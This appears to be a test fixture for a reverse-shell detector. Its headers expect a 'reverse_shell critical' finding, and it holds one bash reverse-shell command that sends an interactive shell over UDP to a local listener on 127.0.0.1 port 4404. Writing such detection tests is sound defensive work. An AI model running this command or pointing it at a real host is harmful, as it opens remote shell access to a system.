# about: over UDP
# expect: reverse_shell critical
# needs: python3 bash
peer 4404 udp
timeout 4 bash -c 'bash -i >& /dev/udp/127.0.0.1/4404 0>&1' || true
done_typing
